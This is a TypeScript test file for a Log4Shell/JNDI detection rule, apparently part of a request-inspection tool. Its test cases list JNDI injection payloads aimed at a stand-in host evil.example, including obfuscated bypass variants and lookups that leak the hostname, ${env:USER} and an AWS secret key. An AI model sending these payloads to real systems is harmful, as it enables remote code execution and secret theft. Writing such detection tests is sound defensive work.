// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${…}` here is attack and benign input text, not a template
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { jndi } from '../src/inspection/rules/jndi.js'
import { corpusSuite, expectFinding, matchRaw } from './support/rule-suite.js'

corpusSuite(jndi, 'jndi', { uninspectedHeadersFound: true, rateOfShown: true })

describe('jndi rules', () => {
  const cases: [string, string, string][] = [
    ['${jndi:ldap://evil.example/a}', 'jndi.lookup', '${jndi:ldap://evil.example/a}'],
    ['${jndi:dns://${hostName}.evil.example}', 'jndi.lookup', '${jndi:dns://'],
    ['${${lower:j}ndi:ldap://evil.example/a}', 'jndi.obfuscated', '${${lower:j}ndi:'],
    [
      '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}',
      'jndi.obfuscated',
      '${${::-j}',
    ],
    [
      '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}',
      'jndi.obfuscated',
      '${${env:',
    ],
    [
      "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example}",
      'jndi.obfuscated',
      "${${date:'j'}",
    ],
    ['${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/o}', 'jndi.obfuscated', '${j${k8s:'],
    ['${${lower:jnd}${lower:${upper:ı}}:ldap://evil.example}', 'jndi.obfuscated', '${${lower:jnd}'],
    ['${jnd${123%ff:-${123%ff:-i:}}ldap://evil.example}', 'jndi.obfuscated', '${jnd'],
    ['x j${::-nD}i${::-:}', 'jndi.obfuscated', 'x j${::-nd}i'],
    ['${:1337:-x$}{jndi:ldap://evil.example/a}', 'jndi.obfuscated', '${:1337:-x$}'],
    ['${jndi:ldap://${env:USER}.evil.example', 'jndi.lookup', '${jndi:ldap://'],
    ['$&lbrace;jndi:ldap://evil.example/a}', 'jndi.lookup', '${jndi:ldap://'],
    ['https://www.example.org/jndi:ldap://evil.example/a', 'jndi.url', 'jndi:ldap://evil.example/a'],
    ['${env:AWS_SECRET_ACCESS_KEY}', 'jndi.log4j-lookup', '${env:aws_secret_access_key}'],
    ['${sys:java.version}', 'jndi.log4j-lookup', '${sys:java.version}'],
    ['${java:version} ok', 'jndi.log4j-lookup', '${java:version}'],
  ]
  for (const [raw, rule, fragment] of cases)
    test(`${raw} → ${rule}`, () => {
      const confidence = rule === 'jndi.lookup' || rule === 'jndi.obfuscated' ? 'high' : 'medium'
      expectFinding(jndi, raw, 'header', rule, { startsWith: fragment }, confidence)
    })

  const benign = [
    'Total: ${price}',
    'The ${price} placeholder shows in the email template',
    '@Value("${app.name}") and @Value("#{systemProperties[\'user.home\']}")',
    'echo ${HOME:-/tmp} ${USER:?unset}',
    'const url = `http://localhost:${process.env.PORT}/${a ? b : c}`',
    'run: deploy ${{ secrets.TOKEN }}',
    'datasource jndi-name java:comp/env/jdbc/main',
    'what is jndi: a naming interface',
    '$5 {bonus}',
    '${${${${${${${${${${${${${${${${${${${${x}}}}}}}}}}}}}}}}}}}}',
  ]
  for (const raw of benign) test(`benign: ${raw}`, () => assert.equal(matchRaw(jndi, raw, 'body'), undefined))
})

describe('jndi cost', () => {
  test('hostile shapes stay linear', () => {
    for (const text of [
      '${'.repeat(4096),
      '${a:-'.repeat(1600),
      '${lower:'.repeat(1000) + '}'.repeat(1000),
      '$&lbrace;'.repeat(900),
      'jndi:'.repeat(1600),
    ]) {
      const start = performance.now()
      jndi.match(text, 'body', 0)
      assert.ok(performance.now() - start < 50, text.slice(0, 16))
    }
  })
})
